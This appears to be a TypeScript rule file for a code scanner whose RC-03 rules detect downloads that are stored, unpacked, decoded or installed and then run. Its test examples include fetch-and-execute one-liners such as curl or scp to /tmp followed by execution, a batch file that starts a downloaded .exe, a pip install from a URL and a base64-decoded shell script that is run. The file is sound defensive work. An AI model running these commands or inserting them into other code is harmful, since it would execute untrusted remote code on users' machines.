/** RC-03: downloads that are stored by another program, unpacked, installed or decoded, and then run. */
import { fenced, inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';
import { byForeignHost } from './foreign-hosts.ts';

const run = ['script', 'fence', 'list', 'prose', 'config', 'decoded', 'hidden', 'comment'] as const;

/** Rows of RC-03. */
export const relayedPrograms: readonly Row[] = [
  row('a program calls curl and then runs what it stored', {
    in: ['script', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`["'](?:curl|wget)["'][^\n]{0,160}["']https?:\/\/[^"'\n]{4,200}["'][^\n]{0,60}["']-{1,2}(?:[oO]|output)["'],\s?["']([^"'\n]{2,80})["'][\s\S]{0,600}?`,
      ),
      raw(
        String.raw`(?:run|call|Popen|system|exec\w{0,8}|spawn\w{0,4}|import|require)\([^\n]{0,60}["']\1["']`,
      ),
    ),
    severity: 'high',
    weigh: byForeignHost,
    catches: [
      inFile(
        'scripts/a.py',
        'subprocess.run(["curl", "-fsSL", "https://parts.invalid/x.py", "-o", "/tmp/x.py"])',
        'subprocess.run(["python3", "/tmp/x.py"])',
      ),
    ],
    spares: [
      inFile(
        'scripts/a.py',
        'subprocess.run(["curl", "-fsSL", "https://media.acme.invalid/a.mp4", "-o", "a.mp4"])',
        'subprocess.run(["ffmpeg", "-i", "b.mp4"])',
      ),
    ],
  }),
  row('a copied program is started at once', {
    in: run,
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\b(?:scp|sftp|rsync)\s[^\n;&|]{0,120}(?:\w@[\w.-]{3,80}:|rsync:\/\/[\w.-]{3,80}\/)[^\n;&|]{0,120}(?:&&|;)\s{0,3}(?:chmod\s{1,3}\+x[^\n;&|]{1,60}(?:&&|`,
      ),
      raw(String.raw`;)\s{0,3})?(?:~\/|\/tmp\/|\.\/)[\w./-]{1,80}`),
    ),
    severity: 'high',
    catches: [fenced('sh', 'scp -q up@parts.invalid:x /tmp/x && chmod +x /tmp/x && /tmp/x')],
    spares: [fenced('sh', 'rsync -a site/ deploy@web.acme.invalid:/srv/site && echo done')],
  }),
  row('a batch file stores a program and starts it', {
    in: run,
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\bcurl(?:\.exe)?\s[^\n]{0,160}(?:-\w{0,4}o|--output)\s{1,3}["']?(%\w{2,20}%[\\/][\w.-]{1,40})[^\n]{0,160}&{1,2}\s{0,3}(?:start\s{1,3}(?:""\s{1,3})?|call\s{1,3})?["']?\1`,
      ),
    ),
    severity: 'high',
    weigh: byForeignHost,
    catches: [
      fenced('bat', String.raw`curl -so %TEMP%\a.exe https://parts.invalid/a.exe && start "" %TEMP%\a.exe`),
    ],
    spares: [
      fenced('bat', String.raw`curl -so %TEMP%\a.csv https://api.acme.invalid/a.csv && type %TEMP%\a.csv`),
    ],
  }),
  row('a program unpacks a download and imports it', {
    in: ['script', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`(?:urlretrieve|requests\.get|urlopen|httpx\.get)\([\s\S]{1,500}?extractall\([\s\S]{1,400}?sys\.path\.(?:insert|append)\(`,
      ),
    ),
    severity: 'high',
    weigh: byForeignHost,
    catches: [
      inFile(
        'scripts/a.py',
        'f, _ = urllib.request.urlretrieve("https://parts.invalid/plugins.zip")',
        'zipfile.ZipFile(f).extractall(d)',
        'sys.path.insert(0, d)',
        'import plugins',
      ),
    ],
    spares: [
      inFile(
        'scripts/a.py',
        'f, _ = urllib.request.urlretrieve("https://data.acme.invalid/tables.zip")',
        'zipfile.ZipFile(f).extractall(d)',
      ),
    ],
  }),
  row('a program replaces its neighbours by downloads', {
    in: ['script', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\.write_(?:bytes|text)\(\s?(?:[\w.]{1,30}\.)?(?:urlopen|requests\.get|httpx\.get|get)\([^\n]{0,200}`,
      ),
    ),
    and: [/__file__/, /["'\x60][\w{}/]{1,40}\.py["'\x60]/],
    severity: 'high',
    weigh: byForeignHost,
    catches: [
      inFile(
        'scripts/a.py',
        'here = Path(__file__).parent',
        'for n in ("a.py", "b.py"):',
        '    (here / n).write_bytes(urllib.request.urlopen(f"https://parts.invalid/{n}").read())',
      ),
    ],
    spares: [
      inFile(
        'scripts/a.py',
        'here = Path(__file__).parent',
        '(here / "rows.json").write_bytes(urllib.request.urlopen("https://api.acme.invalid/rows").read())',
      ),
    ],
  }),
  row('a program installs a package from an address without showing it', {
    alone: 'medium',
    in: ['script', 'decoded'],
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`(?:["']pip3?["'],\s?["']install["'][^\n]{0,80}["'](?:git\+)?https?:\/\/[^"'\n]{4,200}|\bexec(?:Sync)?\(\s?["'\x60](?:npm (?:i|install)|`,
      ),
      raw(String.raw`pip3? install)\s[^\n"'\x60]{0,60}https?:\/\/[^\s"'\x60]{4,200})`),
    ),
    severity: 'high',
    weigh: byForeignHost,
    catches: [
      inFile(
        'scripts/a.py',
        'check_call([sys.executable, "-m", "pip", "install", "-q", "https://parts.invalid/helper.whl"])',
      ),
    ],
    spares: [
      inFile('scripts/a.py', 'check_call([sys.executable, "-m", "pip", "install", "-q", "rows==1.2.0"])'),
    ],
  }),
  row('encoded text becomes a file that is run', {
    in: run,
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\b(?:base64\s{1,3}(?:-d|-D|--decode)|xxd\s{1,3}-r|openssl\s{1,3}(?:base64|enc)\s[^\n>]{0,60}-d)`,
      ),
      raw(String.raw`\s{1,3}(?!<)[^\n>|\s]{2,120}\s{0,3}>\s?["']?([^\s"';&|]{2,80})["']?[\s\S]{0,200}?(?:^|`),
      raw(
        String.raw`[;&|\n]\s{0,8})(?:chmod\s[^\n;&]{1,40}\1|(?:ba|z|da)?sh\s{1,3}["']?\1|source\s{1,3}["']?\1|\.\s["']?\1|python3?\s{1,3}["']?\1|["']?\1)`,
      ),
    ),
    severity: 'critical',
    catches: [fenced('sh', 'base64 -d assets/notes.txt > /tmp/n && sh /tmp/n')],
    spares: [fenced('sh', 'base64 -d logo.txt > logo.png && open logo.png')],
  }),
];
